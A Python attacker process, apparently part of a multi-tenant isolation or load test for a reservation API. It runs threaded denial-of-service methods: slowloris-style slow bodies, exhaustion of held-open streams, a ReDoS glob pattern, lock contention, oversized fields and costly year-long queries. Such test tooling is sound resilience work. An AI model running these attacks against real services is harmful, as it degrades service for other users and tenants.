"""One member who asks for as much as they can, in a process of their own, until it is killed.

It reads its task from standard input and prints one line when the attack has begun. The answers it gets do not matter, only
what it costs others.
"""

import json
import socket
import sys
import threading
import time
import uuid
from collections.abc import Callable
from contextlib import suppress
from dataclasses import asdict, dataclass
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import urlsplit

import urllib3

THREADS = 25
OPERATIONS = 100
"""Of one call of sync_reservations: the most there may be."""

STREAMS = 600
ADDRESS = ("127.0.0.2", 0) if sys.platform == "linux" else None
"""Another than the victim's, because each address has its own limits."""

FIRST_DAY = datetime(2090, 1, 1, tzinfo=UTC)


@dataclass
class Task:
    """Which attack, and with what."""

    attack: str
    url: str
    """The gateway's."""
    token: str
    room: str
    """A resource of the attacker's own tenant."""


class Attacker:
    """The attacks. Each is a method that does its thing once; many threads repeat it at the same time."""

    def __init__(self, task: Task) -> None:
        self._task = task
        self._headers = {"Authorization": f"Bearer {task.token}", "Content-Type": "application/json"}
        self._http = urllib3.PoolManager(
            maxsize=THREADS, retries=False, timeout=urllib3.Timeout(connect=5, read=60), headers=self._headers,
            source_address=ADDRESS,
        )  # fmt: skip
        self._sockets: list[socket.socket] = []
        self._lock = threading.Lock()

    def call(self, function: str, **arguments: Any) -> Any:
        """Calls a function of the API, and returns its answer if that is JSON."""
        with suppress(urllib3.exceptions.HTTPError, ValueError):
            return self._http.request("POST", f"{self._task.url}/rest/v1/rpc/{function}", json=arguments).json()
        return None

    def globs(self) -> None:
        """Opens a stream with event types that a backtracking matcher would take for ever to refuse, and makes events."""
        self._stream("types=" + "*a" * 8 + "*b")
        self._book()

    def locks(self) -> None:
        """Small calls, all waiting for locks of one large call."""
        if threading.current_thread().name == "0":
            self.sync()
        else:
            self._book()

    def sync(self) -> None:
        """As many operations as one call may bring."""
        operations = [{"op": "create", "id": str(uuid.uuid4()), **self._times(minutes=5)} for _ in range(OPERATIONS)]
        self.call("sync_reservations", operations=operations)

    def series(self) -> None:
        """Makes a series as long as is allowed, moves it by a day, and cancels it."""
        arguments = {"resource_id": self._task.room, "rrule": "FREQ=DAILY;COUNT=1000", "duration": "00:05"}
        start = (FIRST_DAY + timedelta(minutes=5 * (uuid.uuid4().int % 280))).replace(tzinfo=None)
        made = self.call("create_series", **arguments, local_start=start.isoformat(), on_conflict="skip")
        if made and made.get("series_id"):
            self.call("reschedule_series", series_id=made["series_id"], scope="all", shift="1 day")
            self.call("cancel_series", series_id=made["series_id"], scope="all")

    def streams(self) -> None:
        """One more stream, left open; one that was closed is tried again after three seconds, as browsers do."""
        self._stream("")
        time.sleep(3 * THREADS / STREAMS)

    def waits(self) -> None:
        """Joins the waitlist where thousands wait, and frees time of that resource."""
        start = FIRST_DAY - timedelta(days=1)
        self.call("join_waitlist", resource_id=self._task.room, starts_at=start.isoformat(),
                  ends_at=(start + timedelta(hours=12)).isoformat(), duration="00:05")  # fmt: skip
        made = self._book()
        if made and made.get("id"):
            self.call("cancel_reservation", reservation_id=made["id"])

    def slots(self) -> None:
        """Searches by the minute for as long a time as is allowed, and longer."""
        self.call("next_available_slots", resource_id=self._task.room, duration="00:01", before="9999-12-31T00:00:00Z",
                  max_results=1000)  # fmt: skip
        self.call("next_available_slots", resource_id=self._task.room, duration="00:01", max_results=1000)
        start, end = FIRST_DAY.isoformat(), (FIRST_DAY + timedelta(days=366)).isoformat()
        self.call("search_availability", starts_at=start, ends_at=end, duration="00:01")

    def texts(self) -> None:
        """Sends texts almost as long as the gateway's limit for a body."""
        self.call("create_series", resource_id=self._task.room, rrule="FREQ=DAILY;COUNT=150", duration="00:05",
                  local_start="2090-01-01T00:00:00", on_conflict="skip", source_module="phone",
                  source_id="x" * 900_000)  # fmt: skip

    def schedules(self) -> None:
        """Asks for a year's schedule of a resource with thousands of bookings."""
        self.call("resource_schedule", resource_id=self._task.room, starts_at=FIRST_DAY.isoformat(),
                  ends_at=(FIRST_DAY + timedelta(days=366)).isoformat())  # fmt: skip

    def slow_bodies(self) -> None:
        """Keeps up to 200 requests open by sending their bodies byte by byte."""
        address = urlsplit(self._task.url)
        with self._lock, suppress(OSError):
            if len(self._sockets) < 200:
                connection = socket.create_connection((address.hostname, address.port), 5, ADDRESS)
                connection.sendall(
                    b"POST /rest/v1/rpc/my_profile HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                    b"Content-Length: 100000\r\nAuthorization: Bearer " + self._task.token.encode() + b"\r\n\r\n"
                )
                self._sockets.append(connection)
        for connection in self._sockets:
            try:
                connection.send(b" ")
            except OSError:
                with self._lock, suppress(ValueError):
                    self._sockets.remove(connection)
        time.sleep(0.5)

    def repeat(self, attack: Callable[[], None]) -> None:
        """What one thread does until the process is killed."""
        while True:
            attack()

    def _book(self) -> Any:
        return self.call("create_reservation", **self._times(minutes=5))

    def _times(self, minutes: int) -> dict[str, str]:
        start = FIRST_DAY + timedelta(minutes=minutes * (uuid.uuid4().int % 100_000))
        return {
            "resource_id": self._task.room, "starts_at": start.isoformat(),
            "ends_at": (start + timedelta(minutes=minutes)).isoformat(),
        }  # fmt: skip

    def _stream(self, query: str) -> None:
        address = urlsplit(self._task.url)
        with suppress(OSError):
            connection = socket.create_connection((address.hostname, address.port), 5, ADDRESS)
            connection.sendall(
                f"GET /v1/events/stream?{query} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self._task.token}\r\n\r\n".encode()
            )
            with self._lock:
                self._sockets.append(connection)
                if len(self._sockets) > STREAMS:
                    self._sockets.pop(0).close()


def main() -> None:
    """All threads of this process."""
    task = Task(**json.load(sys.stdin))
    attacker = Attacker(task)
    attack = getattr(attacker, task.attack)
    threads = [
        threading.Thread(target=attacker.repeat, args=(attack,), name=str(number), daemon=True)
        for number in range(THREADS)
    ]
    for thread in threads:
        thread.start()
    print("begun", flush=True)
    threads[0].join()


def as_json(task: Task) -> str:
    """For the standard input of an attacker."""
    return json.dumps(asdict(task))


if __name__ == "__main__":
    main()
